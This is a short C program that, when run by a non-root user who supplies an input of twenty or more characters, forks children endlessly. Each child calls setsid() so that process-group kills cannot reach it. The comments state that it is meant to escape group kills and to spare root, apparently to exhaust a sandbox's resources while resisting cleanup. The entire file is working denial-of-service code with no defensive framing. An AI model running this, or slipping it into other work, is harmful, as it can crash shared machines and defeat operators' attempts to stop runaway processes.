/* Every child leaves its session and its parent, so that no group kill reaches it. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    /* No sandbox runs as root: spare whoever starts this by mistake. */
    if (getuid() == 0)
        return 1;
    char handle[32];
    if (scanf("%31s", handle) != 1)
        return 1;
    if (strlen(handle) < 20)
        return 0;
    for (;;)
        if (fork() == 0)
            setsid();
}
